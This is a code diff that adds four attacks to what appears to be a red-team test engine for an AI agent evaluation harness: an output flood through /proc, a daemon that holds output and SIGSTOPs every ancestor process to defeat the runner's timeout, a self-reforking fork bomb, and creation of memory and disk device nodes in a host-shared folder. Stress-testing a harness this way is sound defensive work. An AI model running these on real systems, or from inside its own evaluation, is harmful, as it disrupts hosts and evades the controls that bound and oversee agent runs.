@@ -499,6 +499,115 @@ def sql_alone(t: Task) -> None:
     _sql(t, "sql_alone", SQL_ALONE)
 
 
+# ---------------------------------------------------------------- attacks on the run's shared parts (issue 37)
+
+FLOOD_BYTES = 256 << 20  # far above the shim's default cap of the agent exec's output (32 MiB)
+HOLD_SEC = 3600.0
+FORK_FOR_SEC = 3600.0
+
+
+def _exec_output(fd: int) -> int:
+    """The agent exec's own stdout/stderr: the adapter's agent phase (this engine's parent) holds them,
+    and any root process of the container can open them through /proc, past the phase's line relay."""
+    return os.open("/proc/%d/fd/%d" % (os.getppid(), fd), os.O_WRONLY)
+
+
+def _daemon() -> bool:
+    """Fork a session leader's grandchild (no parent to reap, no group to stop); True in the grandchild."""
+    if os.fork():
+        return False
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    return True
+
+
+def stdout_flood(t: Task) -> None:
+    """FLOOD_BYTES straight into the exec's stdout (the runner appends it to its task log on the host)."""
+    fd = _exec_output(1)
+    line = b"flood " * 170 + b"\n"
+    written = 0
+    try:
+        while written < FLOOD_BYTES:
+            written += os.write(fd, line)
+    except OSError as exc:
+        t.note("stdout_flood", written=written, error=type(exc).__name__)
+        return
+    finally:
+        os.close(fd)
+    t.note("stdout_flood", written=written)
+
+
+def _ancestors() -> list:
+    """This engine's ancestors in the container, nearest first, PID 1 (the runner's `sleep`) left out:
+    the adapter's agent phase and the runner's `timeout`, the exec's own process."""
+    chain, pid = [], os.getppid()
+    while pid > 1 and len(chain) < 32:
+        chain.append(pid)
+        try:
+            with open("/proc/%d/stat" % pid, "rb") as fh:
+                stat = fh.read().decode("utf-8", "replace")
+            pid = int(stat[stat.rfind(")") + 2:].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    return chain
+
+
+def output_holder(t: Task) -> None:
+    """A daemon that holds the exec's stdout and stderr open for an hour, then every ancestor stopped
+    (SIGSTOP): the runner's `timeout` can no longer end the exec, nor the adapter's agent phase end
+    what the agent left running. Only the host's bound on the exec ends it."""
+    out, err = _exec_output(1), _exec_output(2)
+    if _daemon():
+        os.dup2(out, 1)
+        os.dup2(err, 2)
+        time.sleep(HOLD_SEC)
+        os._exit(0)
+    os.close(out)
+    os.close(err)
+    ancestors = _ancestors()
+    t.note("output_holder", started=True, stopped=ancestors)
+    t.write_log()
+    write(t.path(ATTEMPTS_NAME), json.dumps({"task": t.task, "plan": ["output_holder"], "attempts": t.attempts}))
+    for pid in ancestors:
+        try:
+            os.kill(pid, 19)  # SIGSTOP
+        except OSError:
+            pass
+
+
+def fork_bomb(t: Task) -> None:
+    """Daemons that fork as they go (each child forks and exits) within the container's PIDs limit,
+    so a single pass over /proc always misses the newest; each holds the exec's stdout."""
+    out = _exec_output(1)
+    for _ in range(4):
+        if _daemon():
+            os.dup2(out, 1)
+            end = time.monotonic() + FORK_FOR_SEC
+            while time.monotonic() < end:
+                try:
+                    if os.fork():
+                        os._exit(0)  # the parent leaves; its child goes on under a new pid
+                except OSError:  # at the PIDs limit: wait for a slot
+                    time.sleep(0.01)
+            os._exit(0)
+    os.close(out)
+    t.note("fork_bomb", started=4)
+
+
+def mknod(t: Task) -> None:
+    """Device nodes in its own dump (a folder of the host): the memory device, and a block device."""
+    results = {}
+    for name, mode, dev in (("mem-node", 0o666 | 0o020000, os.makedev(1, 1)),
+                            ("disk-node", 0o666 | 0o060000, os.makedev(8, 0))):
+        try:
+            os.mknod(t.path(name), mode, dev)
+            results[name] = "made"
+        except OSError as exc:
+            results[name] = "%s: %s" % (type(exc).__name__, exc.strerror)
+    t.note("mknod", results=results)
+
+
 # ---------------------------------------------------------------- the engine
 
 
@@ -512,7 +621,7 @@ def honest() -> None:
 ATTACKS = {f.__name__: f for f in (forged_verdict, planted_claim, runner_lines, inject_grading, inject_launch_time, groundtruth_link,
                                    links, record_link, fifos, fifo_receipt, huge, huge_receipt, workspace_fifo, sibling, loot, outside,
                                    summary_rewriter, kill_entrypoint, claim_provider_failure, no_traj_log, provider_down,
-                                   pg_code, sql_alone)}
+                                   pg_code, sql_alone, stdout_flood, output_holder, fork_bomb, mknod)}
 
 
 def parse_args(argv=None):
